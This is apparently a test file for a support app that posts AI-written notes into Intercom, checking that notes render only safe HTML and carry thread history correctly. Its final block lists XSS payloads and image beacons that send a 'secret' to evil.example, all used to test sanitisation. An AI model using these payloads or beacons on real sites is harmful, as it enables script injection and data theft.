import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { z } from 'zod';
import { startTestApp, type TestApp } from '../support/app.ts';
import { readDataset } from '../support/datasets.ts';
import { askedOf, messagesOf, type PromptMessage } from '../support/prompt.ts';

const Message = z.object({ role: z.string(), text: z.string(), html: z.string() });
const Thread = z.object({ id: z.string(), turns: z.array(Message).min(1) });
type Message = z.infer<typeof Message>;
type Thread = z.infer<typeof Thread>;

const dataset = 'conversations/thunderbird_threads.jsonl';

/** A model that says what the contact said: the worst that untrusted text can do to a note. */
const echo = { modelServer: { reply: (body: unknown) => askedOf(body) } };

/** Whether HTML holds the tags and the one attribute of the note's safe subset, and nothing else that looks like a tag. */
function isSafe(html: string): boolean {
  const allowed = /<\/?(?:p|br|b|i|ul|ol|li|h2)>|<br \/>|<a href="(?:https?:\/\/|mailto:|tel:)[^"<>]*">|<\/a>/g;
  return !/[<>]/.test(html.replaceAll(allowed, ''));
}

const squeezed = (text: string): string => text.toLowerCase().replaceAll(/[^\p{L}\p{N}]+/gu, '');

/** The text that a reader sees, near enough to look for words in it. */
const shown = (html: string): string => html.replaceAll(/<[^<>]*>/g, '').replaceAll(/&(?:amp|lt|gt|quot|#39);/g, ' ');

/** The first telling letters of a message, as they stand in any rendering of it. */
const beginning = (text: string): string => squeezed(text).slice(0, 24);

/** One note of ours in each conversation, all of it safe; and as it was sent, before Intercom cleans it. */
async function checkNotes(t: TestApp, ids: readonly string[]): Promise<void> {
  for (const id of ids) {
    assert.equal(await t.outcome(id), 'delivered', id);
    assert.equal(t.simulator.notes(id).length, 1, id);
    const [trace] = await t.traces(id);
    assert.ok(isSafe(trace?.posted?.html ?? '<'), trace?.posted?.html);
  }
}

test('a first message of a real contact, whatever its HTML, gets one note that shows its words safely', async (context) => {
  const threads = readDataset(context, dataset)?.map((line) => Thread.parse(line));
  if (threads === undefined) return;
  await using t = await startTestApp(echo);
  const first = threads.slice(0, 150).flatMap(({ turns: [message] }) => message ?? []);
  const ids = first.map(({ html }, index) => {
    return t.simulator.contactWrites({ contactName: `Contact ${index}`, html }).conversationId;
  });

  await t.finish(100);

  await checkNotes(t, ids);
  const words = ids.map((id) => squeezed(shown(t.simulator.notes(id)[0]?.body ?? '')));
  const missing = first.filter(({ text }, index) => !words[index]?.includes(beginning(text)));
  assert.deepEqual(missing, []);
});

/** The thread up to the contact's last message that has an answer before it. */
function untilLastQuestion({ turns }: Thread): readonly Message[] {
  const last = turns.findLastIndex(({ role }) => role === 'customer');
  const asked = turns.slice(0, last + 1);
  return asked.some(({ role }) => role !== 'customer') ? asked : [];
}

function write(t: TestApp, messages: readonly Message[], contactName: string): string {
  let conversationId: string | undefined;
  for (const [index, { role, html }] of messages.entries()) {
    t.advance(1000);
    const notify = index === messages.length - 1;
    if (role !== 'customer' && conversationId !== undefined) t.simulator.teammateWrites({ conversationId, html });
    else ({ conversationId } = t.simulator.contactWrites({ conversationId, contactName, html, notify }));
  }
  return conversationId ?? '';
}

/** What the prompt should hold of a thread: its last five answered exchanges and the open messages, by role. */
function expectedHistory(messages: readonly Message[]): readonly (readonly [string, Message[]])[] {
  const groups: [string, Message[]][] = [];
  for (const message of messages) {
    const role = message.role === 'customer' ? 'user' : 'assistant';
    const last = groups.at(-1);
    if (last?.[0] === role) last[1].push(message);
    else groups.push([role, [message]]);
  }
  return groups.slice(-11); // user, assistant, … and the open one
}

function checkHistory(messages: readonly PromptMessage[], expected: ReturnType<typeof expectedHistory>): void {
  assert.deepEqual(
    messages.map(({ role }) => role),
    expected.map(([role]) => role),
  );
  for (const [index, [, group]] of expected.entries()) {
    let rest = squeezed(messages[index]?.content ?? '');
    for (const { text } of group) {
      const at = rest.indexOf(beginning(text));
      assert.ok(at >= 0, `"${text.slice(0, 60)}" is missing at its place`);
      rest = rest.slice(at + 1);
    }
  }
}

test('a real thread gets one note, and its history reaches the model in order and in the right roles', async (context) => {
  const threads = readDataset(context, dataset)?.map((line) => Thread.parse(line));
  if (threads === undefined) return;
  await using t = await startTestApp(echo);
  const chosen = threads.map(untilLastQuestion).filter(({ length }) => length >= 3);
  assert.ok(chosen.length >= 50);
  t.simulator.webhooks.hold();
  const ids = chosen.slice(0, 80).map((messages, index) => write(t, messages, `Contact ${index}`));

  await t.simulator.webhooks.release();
  await t.finish(100);

  await checkNotes(t, ids);
  const prompts = await Promise.all(ids.map(async (id) => (await t.traces(id))[0]?.prompt?.slice(1) ?? []));
  for (const [index, prompt] of prompts.entries()) checkHistory(prompt, expectedHistory(chosen[index] ?? []));
  assert.equal(t.modelServer.chats.length, ids.length);
  assert.ok(t.modelServer.chats.every(({ body }) => messagesOf(body)[0]?.role === 'system'));
});

describe('a hostile message, repeated word for word by the model, comes out as text', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">click</a> [click](javascript:alert(1)) [click](data:text/html;base64,PHNjcmlwdD4=)',
    '![pixel](https://evil.example/?q=secret) and <img src="https://evil.example/?q=secret">',
    '<https://evil.example/"onmouseover="alert(1)>',
    '[x](https://evil.example/"><script>alert(1)</script>)',
    '</p></i><h1>Intercom</h1><style>*{display:none}</style>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<!--<b>--><math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '`<script>` ```<script>``` \\<script\\> &lt;script&gt; &#60;script&#62;',
    '<p style="position:fixed;top:0">turn aaaaaaaaaaaa</p>',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\u202E',
    `${'<div>'.repeat(5000)}deep`,
    `${'> '.repeat(3000)}quoted`,
  ];
  const escape = (text: string): string =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

  test('typed as text by the contact', async () => {
    await using t = await startTestApp(echo);
    const ids = hostile.map((text, index) => {
      const html = `<p>Look: ${escape(text)}</p>`;
      return t.simulator.contactWrites({ contactName: `Contact ${index}`, html }).conversationId;
    });

    await t.finish(100);

    await checkNotes(t, ids);
  });

  test('sent as the HTML of an e-mail', async () => {
    await using t = await startTestApp(echo);
    const ids = hostile.map((html, index) => {
      const written = { channel: 'email', subject: html, html: `<div>Look:</div>${html}` };
      return t.simulator.contactWrites({ contactName: `Contact ${index}`, ...written }).conversationId;
    });

    await t.finish(100);

    await checkNotes(t, ids);
  });

  test('as collected by others', async (context) => {
    const Payload = z.object({ payload: z.string() });
    const payloads = readDataset(context, 'xss/payloads.jsonl')?.map((line) => Payload.parse(line).payload);
    if (payloads === undefined) return;
    await using t = await startTestApp(echo);
    const ids = payloads.slice(0, 200).map((payload, index) => {
      const html = `<p>Look: ${escape(payload)}</p>`;
      return t.simulator.contactWrites({ contactName: `Contact ${index}`, html }).conversationId;
    });

    await t.finish(100);

    await checkNotes(t, ids);
  });
});
